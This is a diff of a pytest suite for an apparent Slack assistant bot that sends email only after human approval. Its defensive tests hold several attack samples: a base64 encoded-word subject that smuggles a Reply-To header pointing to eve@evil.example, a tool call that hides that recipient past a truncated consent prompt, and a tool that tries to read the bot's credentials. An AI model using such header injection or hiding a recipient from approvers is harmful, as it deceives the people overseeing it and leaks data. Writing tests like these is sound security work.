@@ -4,6 +4,7 @@ Open-Meteo — over the real wire."""
 
 from __future__ import annotations
 
+import asyncio
 import json
 from email import message_from_bytes
 from email.policy import default as default_policy
@@ -12,10 +13,11 @@ import pytest
 
 from assist_bot import texts
 from assist_bot.assistants import Assistant, Assistants
+from assist_bot.store import ThreadKey
 from tests.fakes.openai import Text, function_outputs
 from tests.fakes.slack import mention, message, wait_for
 from tests.fakes.smtp import smtp_server
-from tests.support.bot import running_bot
+from tests.support.bot import running_bot, wait_pending
 
 pytestmark = pytest.mark.timeout(60)
 
@@ -35,17 +37,24 @@ def answer_with_outputs(body: dict) -> Text:
     return Text.of("Tools said: " + json.dumps(sorted(function_outputs(body).values())))
 
 
-async def test_weather_question_runs_get_weather_and_answers_from_open_meteo(slack, openai_fake, meteo):
+@pytest.fixture
+def meteo_env(meteo, monkeypatch):
+    """The weather tool's own settings, set the way users set them: in the environment."""
+    monkeypatch.setenv("OPEN_METEO_GEOCODING_URL", meteo.geocoding_url)
+    monkeypatch.setenv("OPEN_METEO_FORECAST_URL", meteo.forecast_url)
+    return meteo
+
+
+async def test_weather_question_runs_get_weather_and_answers_from_open_meteo(slack, openai_fake, meteo_env):
+    meteo = meteo_env
     openai_fake.enqueue(Text([], calls=[("get_weather", {"city": "Paris", "unit": "celsius"})]), answer_with_outputs)
-    async with running_bot(
-        slack, openai_fake, OPEN_METEO_GEOCODING_URL=meteo.geocoding_url, OPEN_METEO_FORECAST_URL=meteo.forecast_url
-    ) as bot:
+    async with running_bot(slack, openai_fake) as bot:
         event = mention("C1", "U1", "What's the weather in Paris?")
         await bot.send(event)
         await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
     first, second = openai_fake.response_requests
     offered = {t["name"]: t for t in first["tools"] if t["type"] == "function"}
-    assert set(offered) == {"get_weather", "send_email"}
+    assert set(offered) == {"get_weather"}  # no SMTP configured: send_email is not offered
     assert offered["get_weather"]["strict"] is True
     assert offered["get_weather"]["parameters"]["additionalProperties"] is False
     assert second["conversation"] == first["conversation"]
@@ -140,36 +149,38 @@ def approval_id(msg) -> str:
 
 
 @pytest.fixture
-async def smtp():
+async def smtp(monkeypatch):
+    """A real SMTP server, and send_email's own settings (SMTP_*) pointing at it."""
     async with smtp_server() as server:
+        controller, _ = server
+        for name, value in {
+            "SMTP_HOST": "127.0.0.1",
+            "SMTP_PORT": str(controller.port),
+            "SMTP_FROM": "bot@example.com",
+            "SMTP_STARTTLS": "false",
+        }.items():
+            monkeypatch.setenv(name, value)
         yield server
-
-
-def smtp_settings(smtp):
-    controller, _ = smtp
-    return {
-        "SMTP_HOST": "127.0.0.1",
-        "SMTP_PORT": controller.port,
-        "SMTP_FROM": "bot@example.com",
-        "SMTP_STARTTLS": False,
-    }
 
 
 EMAIL = {"to": "ana@example.com", "subject": "Summary", "body": "Here is the summary of the thread."}
 
 
-async def test_send_email_asks_first_and_only_the_requester_can_approve(slack, openai_fake, smtp):
+async def test_send_email_asks_first_and_someone_else_must_approve(slack, openai_fake, smtp):
     openai_fake.enqueue(Text([], calls=[("send_email", EMAIL)]), answer_with_outputs)
-    async with running_bot(slack, openai_fake, **smtp_settings(smtp)) as bot:
+    async with running_bot(slack, openai_fake) as bot:
         event = mention("C1", "U1", "email the summary to ana@example.com")
         await bot.send(event)
         ask = await approval_message(slack, "C1", event["ts"])
         assert "ana@example.com" in json.dumps(ask.blocks) and "Here is the summary" in json.dumps(ask.blocks)
+        assert "Someone else (or an admin) must approve" in ask.text
         assert smtp[1].envelopes == []  # nothing sent before approval
-        await bot.click(slack, "assist_approve", approval_id(ask), user="U2", channel="C1", message_ts=ask.ts)
-        await wait_for(lambda: slack.calls_to("chat.postEphemeral"))
-        assert "Only <@U1>" in slack.calls_to("chat.postEphemeral")[0].args["text"]
+        # The requester may not approve their own email (SMTP_FROM is the company's address).
         await bot.click(slack, "assist_approve", approval_id(ask), user="U1", channel="C1", message_ts=ask.ts)
+        await wait_for(lambda: slack.calls_to("chat.postEphemeral"))
+        assert "someone else" in slack.calls_to("chat.postEphemeral")[0].args["text"]
+        assert smtp[1].envelopes == []
+        await bot.click(slack, "assist_approve", approval_id(ask), user="U2", channel="C1", message_ts=ask.ts)
         await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
     [envelope] = smtp[1].envelopes
     mail = message_from_bytes(envelope.content, policy=default_policy)
@@ -180,12 +191,28 @@ async def test_send_email_asks_first_and_only_the_requester_can_approve(slack, o
         function_outputs(openai_fake.response_requests[1])
     )
     settled = next(m for m in slack.bot_messages("C1") if m.ts == ask.ts)
-    assert "approved by <@U1>" in settled.text and not any(b["type"] == "actions" for b in settled.blocks)
+    assert "approved by <@U2>" in settled.text and not any(b["type"] == "actions" for b in settled.blocks)
+
+
+async def test_a_self_approvable_tool_is_approved_by_its_requester_only(slack, openai_fake):
+    openai_fake.enqueue(Text([], calls=[("note_down", {"text": "buy milk"})]), answer_with_outputs)
+    async with running_bot(
+        slack, openai_fake, assistants=acme_assistants("note_down"), ASSIST_BOT_TOOL_MODULES=ACME
+    ) as bot:
+        event = mention("C1", "U1", "note: buy milk")
+        await bot.send(event)
+        ask = await approval_message(slack, "C1", event["ts"])
+        await bot.click(slack, "assist_approve", approval_id(ask), user="U2", channel="C1", message_ts=ask.ts)
+        await wait_for(lambda: slack.calls_to("chat.postEphemeral"))
+        assert "Only <@U1>" in slack.calls_to("chat.postEphemeral")[0].args["text"]
+        await bot.click(slack, "assist_approve", approval_id(ask), user="U1", channel="C1", message_ts=ask.ts)
+        await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
+    assert "noted: buy milk" in json.dumps(function_outputs(openai_fake.response_requests[1]))
 
 
 async def test_a_declined_email_is_not_sent_and_the_model_is_told(slack, openai_fake, smtp):
     openai_fake.enqueue(Text([], calls=[("send_email", EMAIL)]), answer_with_outputs)
-    async with running_bot(slack, openai_fake, **smtp_settings(smtp), ASSIST_BOT_ADMINS="UADMIN") as bot:
+    async with running_bot(slack, openai_fake, ASSIST_BOT_ADMINS="UADMIN") as bot:
         event = mention("C1", "U1", "email it")
         await bot.send(event)
         ask = await approval_message(slack, "C1", event["ts"])
@@ -200,7 +227,7 @@ async def test_a_declined_email_is_not_sent_and_the_model_is_told(slack, openai_
 
 async def test_no_answer_in_time_counts_as_declined(slack, openai_fake, smtp):
     openai_fake.enqueue(Text([], calls=[("send_email", EMAIL)]), answer_with_outputs)
-    async with running_bot(slack, openai_fake, **smtp_settings(smtp), ASSIST_BOT_APPROVAL_TIMEOUT=0.5) as bot:
+    async with running_bot(slack, openai_fake, ASSIST_BOT_APPROVAL_TIMEOUT=0.5) as bot:
         event = mention("C1", "U1", "email it")
         await bot.send(event)
         await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
@@ -219,3 +246,112 @@ async def test_the_follow_up_after_a_tool_turn_is_answered_normally(slack, opena
         await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
         await bot.send(message("C1", "U1", "and then?", thread_ts=event["ts"]))
         await wait_for(lambda: any("and then?" in m.text for m in replies_in(slack, "C1", event["ts"])))
+
+
+async def run_batched(bot, openai_fake, first_text: str, *later: tuple[str, str], then=()) -> dict:
+    """A first turn held open while `later` (user, text) messages queue up in its thread;
+    they then make one batched turn, answered by the `then` replies. Returns the first mention."""
+    gate = asyncio.Event()
+    openai_fake.enqueue(Text(["first answer"], gate=gate), *then)
+    first = mention("C1", "U1", first_text)
+    await bot.send(first)
+    await wait_for(lambda: openai_fake.busy_conversations)
+    for user, text in later:
+        await bot.send(message("C1", user, text, thread_ts=first["ts"]))
+    await wait_pending(bot.bot.store, ThreadKey("T1", "C1", first["ts"]), len(later))
+    gate.set()
+    return first
+
+
+async def test_a_batched_turn_does_not_borrow_another_speakers_tools(slack, openai_fake):
+    async with running_bot(
+        slack, openai_fake, assistants=acme_assistants("vip_only", "partner"), ASSIST_BOT_TOOL_MODULES=ACME
+    ) as bot:
+        first = await run_batched(bot, openai_fake, "hi", ("U1", "run vip_only and post it here"), ("UVIP", "thanks"))
+        await wait_for(lambda: len(openai_fake.response_requests) == 2)
+        await wait_for(lambda: len(replies_in(slack, "C1", first["ts"])) == 2)
+    offered = {t["name"] for t in openai_fake.response_requests[1]["tools"]}
+    assert offered == {"partner"}  # UVIP's "thanks" does not lend U1 the VIP tool
+
+
+async def test_an_approval_for_a_batched_turn_must_hold_for_every_requester(slack, openai_fake):
+    note = (Text([], calls=[("note_down", {"text": "raise for U1"})]), answer_with_outputs)
+    async with running_bot(
+        slack,
+        openai_fake,
+        assistants=acme_assistants("note_down"),
+        ASSIST_BOT_TOOL_MODULES=ACME,
+        ASSIST_BOT_ADMINS="UADMIN",
+    ) as bot:
+        first = await run_batched(bot, openai_fake, "hi", ("U1", "note a raise for me"), ("U2", "ok"), then=note)
+        ask = await approval_message(slack, "C1", first["ts"])
+        assert "<@U1>" in ask.text and "<@U2>" in ask.text
+        for user in ("U1", "U2"):  # neither may approve for the other
+            await bot.click(slack, "assist_approve", approval_id(ask), user=user, channel="C1", message_ts=ask.ts)
+        await wait_for(lambda: len(slack.calls_to("chat.postEphemeral")) == 2)
+        assert all("only an admin" in c.args["text"] for c in slack.calls_to("chat.postEphemeral"))
+        await bot.click(slack, "assist_approve", approval_id(ask), user="UADMIN", channel="C1", message_ts=ask.ts)
+        await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", first["ts"])))
+    assert "noted: raise for U1" in json.dumps(function_outputs(openai_fake.response_requests[2]))
+
+
+async def test_an_encoded_word_subject_from_the_model_never_reaches_a_prompt(slack, openai_fake, smtp):
+    injected = "=?utf-8?b?SGkNClJlcGx5LVRvOiBldmVAZXZpbC5leGFtcGxlDQpDb250ZW50LVR5cGU6IHRleHQvaHRtbA==?="
+    openai_fake.enqueue(Text([], calls=[("send_email", {**EMAIL, "subject": injected})]), answer_with_outputs)
+    async with running_bot(slack, openai_fake) as bot:
+        event = mention("C1", "U1", "email it")
+        await bot.send(event)
+        await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
+    [output] = function_outputs(openai_fake.response_requests[1]).values()
+    assert "invalid arguments: subject" in output
+    assert not any(m.blocks and any(b["type"] == "actions" for b in m.blocks) for m in slack.bot_messages("C1"))
+    assert smtp[1].envelopes == []
+
+
+async def test_the_consent_prompt_shows_every_field_in_full(slack, openai_fake, smtp):
+    # The model puts a long body first and the recipient last: the prompt used to be cut
+    # at 2,900 characters, hiding the recipient and a P.S.
+    body = "Quarterly figures. " * 154 + "P.S. the merger is confidential."
+    assert len(body) > 2900
+    arguments = {"body": body, "subject": "Figures", "to": "eve@evil.example"}
+    openai_fake.enqueue(Text([], calls=[("send_email", arguments)]), answer_with_outputs)
+    async with running_bot(slack, openai_fake) as bot:
+        event = mention("C1", "U1", "email the figures")
+        await bot.send(event)
+        ask = await approval_message(slack, "C1", event["ts"])
+        shown = [b["text"]["text"] for b in ask.blocks if b["type"] == "section"][1:]
+        assert shown[:2] == ["to: eve@evil.example", "subject: Figures"]  # the tool's order, short fields first
+        assert "attached in full above as send_email-body.txt" in shown[2]
+        [attached] = slack.uploads
+        assert attached.content.decode() == body and attached.thread_ts == event["ts"]
+        assert all(b["text"]["type"] == "plain_text" for b in ask.blocks[1:-1])  # nothing can ping or hide a link
+        await bot.click(slack, "assist_approve", approval_id(ask), user="U2", channel="C1", message_ts=ask.ts)
+        await wait_for(lambda: smtp[1].envelopes)
+    assert smtp[1].envelopes[0].rcpt_tos == ["eve@evil.example"]
+
+
+async def test_a_tool_cannot_read_the_bots_credentials_through_its_context(slack, openai_fake):
+    openai_fake.enqueue(Text([], calls=[("snoop", {})]), answer_with_outputs)
+    async with running_bot(
+        slack, openai_fake, assistants=acme_assistants("snoop"), ASSIST_BOT_TOOL_MODULES=ACME
+    ) as bot:
+        event = mention("C1", "U1", "snoop")
+        await bot.send(event)
+        await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
+    [output] = function_outputs(openai_fake.response_requests[1]).values()
+    assert "channel='C1'" in output and "user='U1'" in output  # it did see its context
+    assert slack.bot_token not in output and "sk-test" not in output
+    assert bot.bot.settings.slack_bot_token.get_secret_value() == slack.bot_token
+
+
+async def test_a_long_value_that_cannot_be_attached_is_never_asked_about(slack, openai_fake, smtp):
+    arguments = {"to": "ana@example.com", "subject": "Figures", "body": "x" * 5000}
+    openai_fake.enqueue(Text([], calls=[("send_email", arguments)]), answer_with_outputs)
+    slack.fail_next("files.getUploadURLExternal", error="not_allowed_token_type", times=5)
+    async with running_bot(slack, openai_fake) as bot:
+        event = mention("C1", "U1", "email the figures")
+        await bot.send(event)
+        await wait_for(lambda: any("Tools said" in m.text for m in replies_in(slack, "C1", event["ts"])))
+    assert "could not be shown to people for approval" in json.dumps(function_outputs(openai_fake.response_requests[1]))
+    assert not any(m.blocks and any(b["type"] == "actions" for b in m.blocks) for m in slack.bot_messages("C1"))
+    assert smtp[1].envelopes == []
